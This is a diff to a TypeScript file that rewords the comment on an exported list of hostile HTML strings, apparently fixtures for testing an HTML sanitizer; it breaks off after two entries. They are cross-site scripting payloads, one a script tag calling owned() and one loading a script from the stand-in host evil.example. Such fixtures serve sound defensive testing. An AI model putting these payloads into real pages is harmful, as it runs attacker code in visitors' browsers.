@@ -1,4 +1,4 @@
-/** Things somebody may try to smuggle in by a text. Each would call `owned()`, or fetch from evil.example, if it ran. */
+/** Injection attempts. Each would call `owned()` or fetch from evil.example if it were executed. */
 export const HOSTILE_HTML: readonly string[] = [
   '<script>owned()</script>',
   '<script src="https://evil.example/x.js"></script>',
